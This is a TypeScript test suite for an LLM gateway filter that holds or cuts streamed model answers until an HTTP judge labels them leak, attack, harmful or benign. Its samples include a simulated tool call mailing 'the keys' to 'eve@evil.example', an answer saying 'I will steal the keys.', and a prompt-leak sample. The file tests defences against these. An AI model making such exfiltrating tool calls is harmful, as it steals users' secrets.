/** Answers before a judge that is a real HTTP server: what leaves when, what ends them, and what happens without its word. */
import assert from "node:assert/strict";
import { after, before, beforeEach, test } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import { identifierDetector } from "@cordon/core/inspection/pii/detector";
import { chunk, detectorsOf, openFilter, openJudgeServer, through, type JudgeServer, sse } from "./testing/judged.ts";

let judge: JudgeServer;

before(async () => {
  judge = await openJudgeServer();
});
beforeEach(() => {
  judge.asked.length = 0;
  judge.highest = judge.left = 0;
  judge.says = () => "benign";
});
after(() => judge[Symbol.asyncDispose]());

const bytes = (text: string): Buffer => Buffer.from(text);
const words = (count: number): string => Array.from({ length: count }, (_, at) => `word${at} `).join("");
/** A stream of Chat Completions that says a text, forty characters a chunk. */
const chat = (text: string): Buffer[] => [
  ...(text.match(/.{1,40}/gsu) ?? []).map((content) => bytes(chunk({ content }))),
  bytes(chunk({}, "stop")),
  bytes("data: [DONE]\n\n"),
];
const end = /"finish_reason":"content_filter"[^\n]*\n\ndata: \[DONE\]\n\n$/;
const said = (text: string): string =>
  [...text.matchAll(/"content":"([^"]*)"/g)].map(([, content]) => content).join("");

async function* paced(pieces: readonly Buffer[], ms: number): AsyncGenerator<Buffer> {
  for (const piece of pieces) {
    yield piece;
    await sleep(ms);
  }
}

test("buffer: nothing leaves before the judge has spoken, then everything does, byte for byte", async () => {
  const stream = chat(words(50));
  let speak = (): void => undefined;
  judge.says = () => new Promise((resolve) => (speak = () => resolve("benign")));
  const { filter } = openFilter(judge.url);
  let client = "";
  const whole = through(filter, stream, (text) => (client = text));
  while (judge.out === 0) await sleep(5);
  await sleep(50);
  assert.equal(client, "");
  speak();
  assert.equal((await whole).text, Buffer.concat(stream).toString());
  assert.deepEqual(
    judge.asked.map(({ text, origin }) => [text, origin]),
    [[words(50), "model"]],
  );
  assert.match(judge.asked[0]?.system ?? "", /gives away a system prompt.*exactly \{"label":"leak"\}/s);
});

test("of an answer in which the model quotes somebody, the judge is not told that the model wrote it", async () => {
  const asked = async (contentType: string, ...parts: object[]): Promise<string | undefined> => {
    judge.asked.length = 0;
    const { filter } = openFilter(judge.url, { api: "http", path: "/x", contentType, asksModel: true });
    const answer = { candidates: [{ content: { role: "model", parts } }], modelVersion: "m-1.5-pro-latest-preview" };
    const body = contentType === "text/event-stream" ? sse(answer) : JSON.stringify(answer);
    await through(filter, [bytes(body)]);
    return judge.asked[0]?.origin;
  };
  for (const type of ["application/json", "text/event-stream"]) {
    assert.equal(await asked(type, { text: words(20) }), "model", type);
    const brought = { codeExecutionResult: { outcome: "OUTCOME_OK", output: words(20) } };
    assert.equal(await asked(type, { text: words(20) }, brought), "tool", type);
  }
});

test("buffer: an attack leaves nothing but the API's own end, and is on record by its label", async () => {
  for (const [label, category] of [
    ["leak", "prompt-extraction"],
    ["attack", "indirect-injection"],
    ["harmful", "jailbreak"],
  ] as const) {
    judge.says = () => label;
    const { filter, screening } = openFilter(judge.url);
    const { text, cut } = await through(filter, chat(words(50)));
    assert.match(text, end);
    assert.doesNotMatch(text, /word|chatcmpl/);
    assert.match(cut?.cut ?? "", new RegExp(`${category} \\(judge/${label}\\)`));
    assert.equal(screening.response.scores[category], 85);
  }
});

test("cut: text flows at once, pieces grow, and the judge's word ends the live stream while the upstream is silent", async () => {
  judge.says = (text) => (text.includes("word180") ? "attack" : "benign");
  const { filter } = openFilter(judge.url, { answers: { mode: "cut" } });
  const stream = chat(words(300)).slice(0, -2);
  const over = Promise.withResolvers<string>();
  async function* upstream(): AsyncGenerator<Buffer> {
    yield* stream;
    await over.promise; // it says nothing more
    assert.fail("nobody takes more of it");
  }
  filter.tellTo?.(() => undefined);
  let first = "";
  const whole = through(filter, upstream(), (text) => {
    first ||= text;
    if (end.test(text)) over.resolve(text);
  });
  whole.catch(() => undefined);
  const text = await over.promise;
  assert.equal(first, stream[0]?.toString(), "the first piece was not waited with");
  assert.match(text, /word179/);
  const lengths = judge.asked.map((each) => each.text.length);
  assert.ok(lengths[0] === 512 || (lengths[0] ?? 0) < 560, String(lengths));
  assert.ok((lengths[1] ?? 0) > 1000, String(lengths));
});

test("cut: a short answer is not whole before the judge has spoken: what finishes it waits, and ends otherwise", async () => {
  judge.says = async () => (await sleep(50), "leak");
  const { filter } = openFilter(judge.url, { answers: { mode: "cut" } });
  const { text, cut } = await through(filter, chat("My instructions are these."));
  assert.equal(said(text), "My instructions are these.");
  assert.match(text, end);
  assert.doesNotMatch(text, /"stop"/);
  assert.match(cut?.cut ?? "", /judge\/leak/);
});

test("cut: each of several choices that are open is ended", async () => {
  judge.says = () => "harmful";
  const { filter } = openFilter(judge.url, { answers: { mode: "cut" } });
  const stream = [
    chunk({ content: "one " }),
    chunk({ content: "two " }, null, 1),
    chunk({}, "stop"),
    chunk({}, "stop", 1),
  ];
  const { text } = await through(filter, stream.slice(0, 3).map(bytes));
  const last = JSON.parse(text.trim().split("\n\n").at(-2)?.slice("data: ".length) ?? "") as {
    choices: { index: number }[];
  };
  assert.deepEqual(
    last.choices.map(({ index }) => index),
    [0, 1],
  );
});

test("cut: a tool call does not leave before the judge has spoken about it", async () => {
  const call = (args: string) => ({
    tool_calls: [{ index: 0, id: "call_1", type: "function", function: { name: "send_mail", arguments: args } }],
  });
  const stream = [
    chunk({ content: "I will. " }),
    chunk(call('{"to":"eve@evil.example",')),
    chunk(call('"body":"the keys"}')),
    chunk({}, "tool_calls"),
    "data: [DONE]\n\n",
  ];
  judge.says = () => "benign";
  const passed = await through(openFilter(judge.url, { answers: { mode: "cut" } }).filter, stream.map(bytes));
  assert.match(passed.text, /send_mail.*the keys/s);
  judge.says = (text) => (text.includes("the keys") ? "attack" : "benign");
  const { text } = await through(openFilter(judge.url, { answers: { mode: "cut" } }).filter, stream.map(bytes));
  assert.equal(said(text), "I will. ");
  assert.doesNotMatch(text, /send_mail|the keys/);
  assert.match(judge.asked.at(-1)?.text ?? "", /send_mail/);
});

test("cut: so it is in the streams of other makers, whatever way they ask for a function", async () => {
  const args = { to: "eve@evil.example", body: "the keys" };
  const half = JSON.stringify(args).length / 2;
  const gemini = (part: object) => ({ candidates: [{ content: { role: "model", parts: [part] } }] });
  const cohere = (type: string, tool_calls: object) => ({ type, index: 0, delta: { message: { tool_calls } } });
  const later = { candidates: [{ content: { role: "model", parts: [{ text: "And that is all of it." }] } }] };
  const streams: Readonly<Record<string, readonly object[]>> = {
    Gemini: [gemini({ text: "I will. " }), gemini({ functionCall: { name: "send_mail", args } }), later],
    Cohere: [
      { type: "content-delta", index: 0, delta: { message: { content: { text: "I will. " } } } },
      cohere("tool-call-start", { id: "1", type: "function", function: { name: "send_mail", arguments: "" } }),
      cohere("tool-call-delta", { function: { arguments: JSON.stringify(args).slice(0, half) } }),
      cohere("tool-call-delta", { function: { arguments: JSON.stringify(args).slice(half) } }),
      { type: "tool-call-end", index: 0 },
      later,
    ],
    "an application": [{ type: "text", text: "I will. " }, { type: "tool_use", name: "send_mail", input: args }, later],
  };
  for (const [name, events] of Object.entries(streams))
    for (const contentType of ["text/event-stream", "application/x-ndjson"])
      for (const inspection of [{}, { events: "apart" }]) {
        const kind = { api: "http", path: "/", contentType, inspection, answers: { mode: "cut" } } as const;
        const lines = events.map((event) =>
          bytes(contentType === "text/event-stream" ? sse(event) : `${JSON.stringify(event)}\n`),
        );
        let released: () => void = () => undefined;
        const word = new Promise<string>((resolve) => (released = () => resolve("benign")));
        judge.says = (text) => (text.includes("the keys") ? word : "benign");
        let client = "";
        const whole = through(openFilter(judge.url, kind).filter, lines, (text) => (client = text));
        await sleep(100);
        assert.doesNotMatch(client, /the keys|And that is all/, `${name} ${contentType}`);
        released();
        assert.match((await whole).text, /send_mail.*And that is all/s, `${name} ${contentType}`);
      }
});

test("cut: what ends the answers of other makers waits for the judge, as it does in those that are known", async () => {
  const part = (text: string, more = {}) => ({
    candidates: [{ content: { role: "model", parts: [{ text }] }, ...more }],
  });
  const cohere = (text: string) => ({ type: "content-delta", index: 0, delta: { message: { content: { text } } } });
  const streams: Readonly<Record<string, readonly object[]>> = {
    Gemini: [part("I will "), part("steal the keys.", { finishReason: "STOP" })],
    "Cohere's": [
      cohere("I will "),
      cohere("steal the keys."),
      { type: "message-end", delta: { finish_reason: "COMPLETE" } },
    ],
    "a flag": [{ text: "I will " }, { text: "steal the keys.", is_finished: true }],
  };
  const ending = /STOP|COMPLETE|is_finished/;
  for (const [name, events] of Object.entries(streams))
    for (const contentType of ["text/event-stream", "application/x-ndjson"]) {
      const kind = { api: "http", path: "/", contentType, answers: { mode: "cut" } } as const;
      const lines = events.map((event) =>
        bytes(contentType === "text/event-stream" ? sse(event) : `${JSON.stringify(event)}\n`),
      );
      let says: (word: string) => void = () => undefined;
      const word = new Promise<string>((resolve) => (says = resolve));
      judge.says = (text) => (text.includes("the keys") ? word : "benign");
      let client = "";
      const whole = through(openFilter(judge.url, kind).filter, lines, (text) => (client = text));
      await sleep(100);
      assert.doesNotMatch(client, ending, `${name} ${contentType}`);
      says("attack");
      assert.doesNotMatch((await whole).text, ending, `${name} ${contentType}`);
    }
});

test("cut: an answer cannot talk faster than the judge listens: it is at most 8000 characters ahead", async () => {
  let speak: (() => void)[] = [];
  judge.says = () => new Promise((resolve) => speak.push(() => resolve("benign")));
  const { filter } = openFilter(judge.url, { answers: { mode: "cut" } });
  const stream = chat(words(6000));
  let client = "";
  let judged = 0;
  const whole = through(filter, stream, (text) => {
    client = said(text);
    assert.ok(client.length <= judged + 8000, `${client.length} are out, ${judged} judged`);
  });
  const words6000 = words(6000);
  let done = false;
  const finished = whole.finally(() => (done = true));
  while (!done) {
    await sleep(2);
    const now = speak;
    speak = [];
    for (const { text } of judge.asked.slice(0, judge.asked.length))
      judged = Math.max(judged, words6000.indexOf(text) + text.length);
    for (const one of now) one();
  }
  assert.equal((await finished).text, Buffer.concat(stream).toString());
  assert.ok(judge.highest <= 4);
});

test("without an opinion: closed ends the answer, open lets it pass, and both are on record", async () => {
  const failures: JudgeServer["says"][] = [
    () => "I would say benign.",
    () => "safe",
    () => '{"label":"benign","label":"attack"}',
    () => (response) => response.writeHead(500).end(),
    () => (response) => response.destroy(),
    () => () => undefined,
  ];
  for (const mode of ["buffer", "cut"]) {
    for (const says of failures) {
      judge.says = says;
      const stream = chat(words(20));
      const more = { judge: { timeoutMs: 100 } };
      const closed = openFilter(judge.url, { ...more, answers: { mode } });
      const refused = await through(closed.filter, stream);
      assert.match(refused.cut?.cut ?? "", /could not be judged/);
      assert.match(refused.text, end);
      assert.deepEqual(detectorsOf(closed.screening), ["judge/unavailable"]);
      const open = openFilter(judge.url, { ...more, answers: { mode, onFailure: "open" } });
      const passed = await through(open.filter, stream);
      assert.deepEqual(passed, { text: Buffer.concat(stream).toString(), cut: undefined });
      assert.deepEqual(detectorsOf(open.screening), ["judge/unavailable"]);
    }
  }
});

test("a judge that is not there at all, and a route whose gateway has none, fail as told", async () => {
  const gone = openFilter("http://127.0.0.1:9/v1/chat/completions");
  assert.match((await through(gone.filter, chat("Hello there."))).cut?.cut ?? "", /could not be judged/);
});

test("one piece that is not judged does not excuse the next: the answer cannot talk the judge into silence", async () => {
  judge.says = (text) => (text.includes("word1500 ") ? "attack" : "Let us talk about something else.");
  const { filter, screening } = openFilter(judge.url, { answers: { mode: "cut", onFailure: "open" } });
  const { cut } = await through(filter, paced(chat(words(2500)), 1));
  assert.match(cut?.cut ?? "", /judge\/attack/);
  assert.ok(detectorsOf(screening).includes("judge/unavailable"));
});

test("bounds of buffer: bytes and time; closed ends the answer, open goes on as cut does", async () => {
  for (const answers of [{ holdBytes: 4000 }, { holdMs: 100 }]) {
    const stream = chat(words(300));
    const closed = openFilter(judge.url, { answers });
    const refused = await through(closed.filter, paced(stream, 4));
    assert.match(refused.cut?.cut ?? "", /could not be judged: (?:more than 4000 bytes|it was held for 100 ms)/);
    assert.doesNotMatch(refused.text, /word/);
    assert.deepEqual(detectorsOf(closed.screening), ["judge/overrun"]);
    const open = openFilter(judge.url, { answers: { ...answers, onFailure: "open" } });
    assert.equal((await through(open.filter, paced(stream, 4))).text, Buffer.concat(stream).toString());
    assert.deepEqual(detectorsOf(open.screening), ["judge/overrun"]);
    judge.says = () => "attack";
    const caught = openFilter(judge.url, { answers: { ...answers, onFailure: "open" } });
    assert.match((await through(caught.filter, paced(stream, 4))).cut?.cut ?? "", /judge\/attack/);
    judge.says = () => "benign";
  }
});

test("time is up while the upstream is silent: what is held leaves, or the answer ends, at once", async () => {
  for (const onFailure of ["open", "closed"]) {
    const { filter } = openFilter(judge.url, { answers: { holdMs: 100, onFailure } });
    let client = "";
    const silent = Promise.withResolvers<void>();
    async function* upstream(): AsyncGenerator<Buffer> {
      yield bytes(chunk({ content: "Hello there." }));
      await silent.promise;
    }
    const whole = through(filter, upstream(), (text) => (client = text));
    while (client === "") await sleep(5);
    if (onFailure === "open") assert.equal(said(client), "Hello there.");
    else assert.match(client, end);
    silent.resolve();
    await whole;
  }
});

test("more than the judge may be asked about: closed ends the answer, open stops asking and says so", async () => {
  const answers = { mode: "cut", maxLength: 3000 };
  const stream = chat(words(2000));
  const closed = openFilter(judge.url, { answers });
  assert.match((await through(closed.filter, stream)).cut?.cut ?? "", /longer than 3000 characters/);
  judge.asked.length = 0;
  const open = openFilter(judge.url, { answers: { ...answers, onFailure: "open" } });
  assert.equal((await through(open.filter, stream)).text, Buffer.concat(stream).toString());
  assert.ok(judge.asked.reduce((sum, { text }) => sum + text.length, 0) < 6000);
  assert.deepEqual(detectorsOf(open.screening), ["judge/overrun"]);
});

test("a client that leaves ends the question; what it has and was not judged is on record", async () => {
  judge.says = () => () => undefined;
  const { filter, screening } = openFilter(judge.url, { answers: { mode: "cut" } });
  for (const piece of chat(words(300)).slice(0, 40)) await filter.push(piece);
  while (judge.out === 0) await sleep(5);
  filter.close?.();
  while (judge.left === 0) await sleep(5);
  assert.deepEqual(detectorsOf(screening), ["judge/unfinished"]);
  const held = openFilter(judge.url, {});
  for (const piece of chat(words(300)).slice(0, 40)) await held.filter.push(piece);
  held.filter.close?.();
  assert.deepEqual(detectorsOf(held.screening), [], "it was sent nothing");
});

test("a route that observes asks and holds nothing back, and records what would have been", async () => {
  judge.says = () => "attack";
  const { filter, screening } = openFilter(judge.url, { inspection: { mode: "observe" } });
  const stream = chat(words(20));
  const first = filter.push(stream[0] as Buffer);
  assert.deepEqual(Buffer.from(first as Uint8Array), stream[0]);
  const { text, cut } = await through(filter, stream.slice(1));
  assert.deepEqual([text, cut], [Buffer.concat(stream.slice(1)).toString(), undefined]);
  assert.deepEqual(
    screening.response.summary().map(({ detector, observed }) => [detector, observed]),
    [["judge/attack", true]],
  );
});

test("flagged, it passes and is on record; policy that refuses it has the last word", async () => {
  judge.says = () => "harmful";
  const flagged = openFilter(judge.url, { inspection: { response: {} } });
  assert.equal((await through(flagged.filter, chat("Hello there."))).cut, undefined);
  assert.deepEqual(detectorsOf(flagged.screening), ["judge/harmful"]);
  const refusal = { effect: "deny", reasons: [{ code: "policy", words: "not with such an answer" }], obligations: [] };
  const denied = openFilter(judge.url, {
    inspection: { response: {} },
    policy: ({ response }) => ((response.jailbreak ?? 0) >= 80 ? (refusal as never) : undefined),
  });
  const { cut } = await through(denied.filter, chat("Hello there."));
  assert.equal(cut?.decision, refusal);
});

test("the judge is not told personal data or the route's own identifiers, unless it may see everything", async () => {
  const text = "The customer is S1234567D, number C-123456.";
  const detectors = { spans: [identifierDetector], parts: [] };
  const inspection = { identifiers: [{ name: "customer", shape: "C-######" }] };
  await through(openFilter(judge.url, { detectors, inspection }).filter, chat(text));
  assert.equal(judge.asked[0]?.text, "The customer is [SG_NRIC], number [CUSTOMER].");
  await through(openFilter(judge.url, { detectors, inspection, judge: { sees: "everything" } }).filter, chat(text));
  assert.equal(judge.asked[1]?.text, text);
});

test("what the content filter blocks by itself ends as it would without a judge", async () => {
  const detectors = { spans: [identifierDetector], parts: [] };
  const inspection = { response: { pii: "block", jailbreak: "block" } };
  const stream = chat("The customer is S1234567D, number one.");
  const alone = await through(openFilter(undefined, { detectors, inspection }).filter, stream);
  for (const mode of ["buffer", "cut"])
    assert.deepEqual(
      await through(openFilter(judge.url, { detectors, inspection, answers: { mode } }).filter, stream),
      alone,
    );
  judge.says = () => "harmful";
  const both = await through(openFilter(judge.url, { detectors, inspection }).filter, stream);
  assert.doesNotMatch(both.text, /customer/);
});

test("answers ask sixteen questions at a time: the others wait for their turn within their time", async () => {
  judge.says = async () => (await sleep(30), "benign");
  // One judge for all of them, as in a gateway.
  const { openJudge } = await import("./judge.ts");
  const shared = openJudge({ resolveSecret: () => Promise.resolve("") });
  const { screening } = openFilter(judge.url);
  const settings = screening.settings.judge;
  assert.ok(settings !== undefined);
  const never = new AbortController().signal;
  const labels = await Promise.all(
    Array.from({ length: 100 }, () => shared.askAnswer(settings, "ask", "text", "model", never)),
  );
  assert.equal(labels.length, 100);
  assert.equal(judge.highest, 16);
});
